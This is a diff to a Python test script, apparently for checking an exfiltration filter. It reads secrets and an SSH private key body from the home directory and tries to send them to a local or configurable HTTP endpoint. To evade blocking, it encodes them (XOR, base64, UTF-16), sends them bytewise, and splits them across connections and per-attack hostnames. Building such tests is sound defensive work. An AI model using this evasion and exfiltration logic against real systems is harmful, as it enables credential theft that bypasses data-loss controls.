@@ -4,7 +4,9 @@
 # encoded (reversed, XOR'd, UTF-16, base64 at each alignment), split over
 # many small requests and over two connections, and the SSH key body only,
 # to http://127.0.0.1:PORT. Prints "NAME:HOW sent|blocked" per attempt.
-# usage: attack.py PORT [all|split]
+# usage: attack.py PORT [all|enc|split] [HOSTFMT]
+# HOSTFMT ("%s.allowed.test"): each split attack goes to its own name, so
+# that a host refused for one secret does not hide the next attack.
 import base64
 import http.client
 import os
@@ -13,6 +15,11 @@ import urllib.parse
 
 PORT = int(sys.argv[1])
 HOME = os.environ["HOME"]
+HOSTFMT = sys.argv[3] if len(sys.argv) > 3 else "127.0.0.1"
+
+
+def host(tag):
+    return HOSTFMT % tag if "%s" in HOSTFMT else HOSTFMT
 
 
 def secrets():
@@ -37,15 +44,17 @@ def key_body():
     return [l for l in key if not l.startswith("-----")]
 
 
-def send(method, path, body=None, conn=None):
+def send(method, path, body=None, conn=None, to="127.0.0.1"):
     try:
-        c = conn or http.client.HTTPConnection("127.0.0.1", PORT, timeout=10)
+        c = conn or http.client.HTTPConnection(to, PORT, timeout=10)
         c.request(method, path, body=body, headers={"Content-Type": "application/octet-stream"})
         c.getresponse().read()
         if conn is None:
             c.close()
         return True
-    except OSError:
+    except (OSError, http.client.HTTPException):
+        if conn is not None:
+            conn.close()   # a refused send leaves it mid-request: reconnect
         return False
 
 
@@ -64,7 +73,7 @@ def encodings(v):
 
 def main():
     mode = sys.argv[2] if len(sys.argv) > 2 else "all"
-    for name, v in secrets().items():
+    for n, (name, v) in enumerate(secrets().items()):
         if mode in ("all", "enc"):
             for how, data in encodings(v):
                 report(name, how, send("POST", "/p", data))
@@ -73,16 +82,18 @@ def main():
             sent = 0
             for i, b in enumerate(v):
                 q = urllib.parse.quote(bytes([b]))
-                if send("GET", "/c?n=%d&d=%s" % (i * 7919, q)):
+                if send("GET", "/c?n=%d&d=%s" % (i * 7919, q), to=host("b%d" % n)):
                     sent += 1
             report(name, "bytewise(%d/%d)" % (sent, len(v)), sent == len(v))
-            # half on each of two connections
-            a = http.client.HTTPConnection("127.0.0.1", PORT, timeout=10)
-            b = http.client.HTTPConnection("127.0.0.1", PORT, timeout=10)
-            h = len(v) // 2
-            ok1 = send("POST", "/h1", v[:h], a)
-            ok2 = send("POST", "/h2", v[h:], b)
-            report(name, "halves", ok1 and ok2)
+            # over two connections, alternating quarters (each too short
+            # to be refused on its own)
+            a = http.client.HTTPConnection(host("h%d" % n), PORT, timeout=10)
+            b = http.client.HTTPConnection(host("h%d" % n), PORT, timeout=10)
+            q = (len(v) + 3) // 4
+            ok = True
+            for i in range(4):
+                ok = send("POST", "/h%d" % (i % 2 + 1), v[i * q:(i + 1) * q], (a, b)[i % 2]) and ok
+            report(name, "two-connections", ok)
     if mode in ("all", "enc"):
         lines = key_body()
         report("ssh-key", "body-joined", send("POST", "/k", "".join(lines).encode()))
